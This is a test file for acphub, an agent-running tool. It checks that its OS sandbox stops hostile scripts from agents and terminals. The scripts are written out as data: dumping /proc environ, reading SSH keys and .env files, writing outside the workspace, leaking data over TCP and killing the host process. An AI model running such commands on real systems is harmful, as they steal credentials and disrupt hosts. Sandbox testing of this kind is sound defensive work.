// The OS sandbox, attacked through `acphub run --permissions approve-all` as a real subprocess:
// once from terminals (sandbox auto, available here), once from inside an agent started with
// `sandbox: true` (the mock agent running the same scripts in its own process).
import {
  createServer as createHttpServer,
  type Server as HttpServer,
} from "node:http";
import { createServer, type Server } from "node:net";
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jsonLines, runCli } from "../helpers/cli.js";
import { CLI, steps, tempDir } from "../helpers/mock.js";

const SECRET = "topsecret-7f3a9c";
const APPROVE_ALL = ["--permissions", "approve-all"];
/** The mock agent whose shell step runs in its own process (not through terminal/create). */
const ownShellMock = (sandbox: unknown) => ({
  mock: {
    command: process.execPath,
    args: [CLI, "mock-agent", "--own-shell"],
    sandbox,
  },
});
let listener: Server;
let port = 0;
let received = 0;
beforeAll(async () => {
  listener = createServer((socket) => {
    received++;
    socket.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  port = (listener.address() as { port: number }).port;
});
afterAll(() => listener.close());

interface Lab {
  home: string;
  hubHome: string;
  ws: string;
  outside: string;
}

function lab(config: object): Lab {
  received = 0;
  const l = {
    home: tempDir("acphub-home-"),
    hubHome: tempDir("acphub-state-"),
    ws: tempDir("acphub-ws-"),
    outside: tempDir("acphub-outside-"),
  };
  mkdirSync(join(l.home, ".ssh"));
  writeFileSync(join(l.home, ".ssh", "id_rsa"), "PRIVATE-KEY-BODY\n");
  writeFileSync(join(l.hubHome, "config.json"), JSON.stringify(config));
  writeFileSync(join(l.ws, "input.txt"), "input-data\n");
  writeFileSync(join(l.ws, ".env"), "ENV_FILE_SECRET=1\n");
  mkdirSync(join(l.ws, "packages", "api"), { recursive: true });
  writeFileSync(
    join(l.ws, "packages", "api", ".env.local"),
    "ENV_FILE_SECRET=2\n",
  );
  writeFileSync(
    join(l.ws, "package.json"),
    JSON.stringify({ scripts: { test: 'node -e "console.log(20+22)"' } }),
  );
  return l;
}

// The scripts each attack runs, by name. acphub's pid is written to `hub.pid` once it runs.
function attacks(l: Lab): Record<string, string> {
  const o = l.outside;
  const node = (js: string) => `node -e "${js}"`;
  return {
    environ: `tr '\\0' '\\n' < /proc/$PPID/environ; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; echo environ-done`,
    writes: [
      `python3 -c "open('${o}/py','w').write('x')"`,
      node(`require('fs').writeFileSync('${o}/node','x')`),
      `echo x > ${o}/sh`,
      `cp input.txt ${o}/cp`,
      `ln -s ${o}/via-link link && echo x > link`,
      `mv input.txt ${o}/mv`,
      "echo writes-done",
    ].join("; "),
    key: `cat ${l.home}/.ssh/id_rsa; cat $HOME/.ssh/id_rsa; cat .env packages/api/.env.local; echo key-done`,
    tcp: node(
      `const s=require('net').connect(${port},'127.0.0.1',()=>{s.write('LEAK');console.log('tcp-connected')});s.on('error',e=>console.log('tcp-failed',e.code))`,
    ),
    kill: `kill -9 $(cat ${l.ws}/hub.pid); echo kill-exit=$?`,
    ps: "ps -eo pid,args; echo ps-done",
    work: [
      "echo written > out.txt && cat out.txt",
      "npm test 2>&1 | grep 42",
      `python3 -c "import socket;s=socket.socket();s.close();print('py'+'-ok')"`,
      'touch "$TMPDIR/t" && echo tmp-ok',
    ].join(" && "),
  };
}

// Runs every attack as one turn, each script through `step`; returns the reports by name.
async function attack(l: Lab, step: (script: string) => object) {
  const scripts = attacks(l);
  const names = Object.keys(scripts);
  const prompt = steps(
    ...names.map((n) => step(scripts[n]!) as Record<string, unknown>),
  );
  const r = await runCli(
    ["run", "--json", ...APPROVE_ALL, "--cwd", l.ws, prompt],
    {
      home: l.home,
      cwd: l.ws,
      env: { ACPHUB_HOME: l.hubHome, MY_SUPER_SECRET_TOKEN: SECRET },
      timeoutMs: 60_000,
      onSpawn: (child) =>
        writeFileSync(join(l.ws, "hub.pid"), String(child.pid)),
    },
  );
  const text = jsonLines(r.stdout)
    .map((e) => JSON.stringify(e))
    .join("\n");
  const reports = [
    ...text.matchAll(/(?:terminal|shell) exit: (.*?)(?=\\n"|$)/gm),
  ].map((m) => JSON.parse(`"${m[1]!}"`) as string);
  return {
    r,
    reports: Object.fromEntries(names.map((n, i) => [n, reports[i] ?? ""])),
  };
}

// What every attack must show, from terminals or from an agent.
function expectContained(
  l: Lab,
  out: Record<string, string>,
  result: { code: number | null; stdout: string },
) {
  expect.soft(out["environ"]).toContain("environ-done");
  expect.soft(out["environ"]).not.toContain(SECRET);
  expect.soft(out["writes"]).toContain("writes-done");
  expect.soft(readdirSync(l.outside)).toEqual([]);
  expect.soft(out["key"]).toContain("key-done");
  expect.soft(out["key"]).not.toContain("PRIVATE-KEY-BODY");
  expect.soft(out["key"]).not.toContain("ENV_FILE_SECRET");
  expect.soft(out["tcp"]).toContain("tcp-failed");
  expect.soft(received).toBe(0);
  expect.soft(out["kill"]).toMatch(/kill-exit=[1-9]/);
  expect.soft(result.code).toBe(0);
  expect.soft(result.stdout).toContain('"stopReason":"end_turn"');
  expect.soft(out["ps"]).toContain("ps-done");
  expect.soft(out["ps"]).not.toContain("approve-all");
  expect.soft(out["work"]).toContain("written");
  expect.soft(out["work"]).toContain("42");
  expect.soft(out["work"]).toContain("py-ok");
  expect.soft(out["work"]).toContain("tmp-ok");
}

describe("the OS sandbox against attacks", () => {
  it("holds for terminals (terminals.sandbox auto)", async () => {
    const l = lab({});
    const { r, reports } = await attack(l, (script) => ({
      terminal: { command: script },
    }));
    expectContained(l, reports, r);
    expect(reports["ps"]).not.toContain("mock-agent");
  });

  it("holds for an agent started with sandbox: true", async () => {
    const l = lab({
      agents: ownShellMock(true),
      terminals: { sandbox: "off" },
    });
    const { r, reports } = await attack(l, (script) => ({ shell: script }));
    expectContained(l, reports, r);
  });
});

describe("without the sandbox (bubblewrap missing)", () => {
  const missing = { bwrapPath: "/nonexistent/bwrap" };
  const echo = steps({ terminal: { command: "echo ran-here" } });
  const run = (config: object, prompt = echo) => {
    const l = lab(config);
    return runCli(["run", ...APPROVE_ALL, "--cwd", l.ws, prompt], {
      home: l.home,
      cwd: l.ws,
      env: { ACPHUB_HOME: l.hubHome },
    });
  };

  it("auto warns once and runs the terminal", async () => {
    const r = await run({ terminals: missing });
    expect(r.stdout).toContain('"output":"ran-here\\n"');
    expect(
      r.stderr.match(
        /^acphub: WARNING: terminals run without an OS sandbox \(terminals\.sandbox: auto\), limited only by the command check, a speed bump, not a boundary — /gm,
      ),
    ).toHaveLength(1);
    expect(r.stderr).toContain("/nonexistent/bwrap");
    expect(r.code).toBe(0);
  });

  it("os refuses the terminal, naming what to install", async () => {
    const r = await run({ terminals: { ...missing, sandbox: "os" } });
    expect(r.stdout).not.toContain("ran-here\\n");
    expect(r.stdout + r.stderr).toMatch(
      /terminal refused: the OS sandbox is not available: missing \/nonexistent\/bwrap \(Debian\/Ubuntu package bubblewrap\)/,
    );
    expect(r.code).toBe(5);
  });

  it("an agent with sandbox: true does not start", async () => {
    const r = await run(
      { terminals: missing, agents: { mock: { sandbox: true } } },
      "hi",
    );
    expect(r.stderr).toContain(
      "agent mock asks for sandbox: true, but the OS sandbox is not available",
    );
    expect(r.stdout).not.toContain("mock agent received");
    expect(r.code).not.toBe(0);
  });

  it("agents doctor says what is missing, and that a command starts when it is there", async () => {
    const doctor = async (config: object) => {
      const l = lab(config);
      return runCli(["agents", "doctor", "mock"], {
        home: l.home,
        cwd: l.ws,
        env: { ACPHUB_HOME: l.hubHome },
      });
    };
    const broken = await doctor({ terminals: missing });
    expect(broken.stdout).toContain(
      "sandbox: the OS sandbox is not available: missing /nonexistent/bwrap (Debian/Ubuntu package bubblewrap)",
    );
    expect(broken.stdout).toContain(
      "WARNING: terminals run WITHOUT an OS sandbox (terminals.sandbox: auto), limited only by the command check, which is a speed bump, not a boundary",
    );
    const ok = await doctor({ agents: { mock: { sandbox: true } } });
    expect(ok.stdout).toContain(
      "sandbox: available, a command starts inside it; terminals: sandboxed; agents with sandbox: true: mock",
    );
    expect(ok.stdout).toContain("\nok\n");
    expect(ok.code).toBe(0);
  });
});

describe("network per domain", () => {
  let http: HttpServer;
  let httpPort = 0;
  beforeAll(async () => {
    http = createHttpServer((_req, res) => res.end("HELLO-FROM-HOST"));
    await new Promise<void>((r) => http.listen(0, "127.0.0.1", r));
    httpPort = (http.address() as { port: number }).port;
  });
  afterAll(() => http.close());

  // Fetches through the sandbox's proxy (python's urllib follows http_proxy once no_proxy,
  // which names localhost, is unset), from each host name given.
  const fetchScript = () =>
    `env -u no_proxy -u NO_PROXY python3 -c "import urllib.request as u,sys
for h in sys.argv[1:]:
  try: print(u.urlopen('http://'+h+':${httpPort}/', timeout=10).read().decode())
  except Exception as e: print('blocked', h)" localhost 127.0.0.1`;

  it.each([
    [
      "a terminal, with terminals.network.allowedDomains",
      { terminals: { network: { allowedDomains: ["localhost"] } } },
      (script: string) => ({ terminal: { command: script } }),
    ],
    [
      "an agent with sandbox.allowedDomains (a local model endpoint)",
      { agents: ownShellMock({ allowedDomains: ["localhost"] }) },
      (script: string) => ({ shell: script }),
    ],
  ])("%s reaches the allowed domain only", async (_name, config, step) => {
    const l = lab(config);
    const r = await runCli(
      ["run", ...APPROVE_ALL, "--cwd", l.ws, steps(step(fetchScript()))],
      { home: l.home, cwd: l.ws, env: { ACPHUB_HOME: l.hubHome } },
    );
    expect(r.stdout).toMatch(/HELLO-FROM-HOST\\nblocked 127\.0\.0\.1\\n/);
  });

  it("nothing is reachable by default", async () => {
    const l = lab({});
    const r = await runCli(
      [
        "run",
        ...APPROVE_ALL,
        "--cwd",
        l.ws,
        steps({ terminal: { command: fetchScript() } }),
      ],
      { home: l.home, cwd: l.ws, env: { ACPHUB_HOME: l.hubHome } },
    );
    expect(r.stdout).toMatch(/blocked localhost\\nblocked 127\.0\.0\.1\\n/);
  });
});
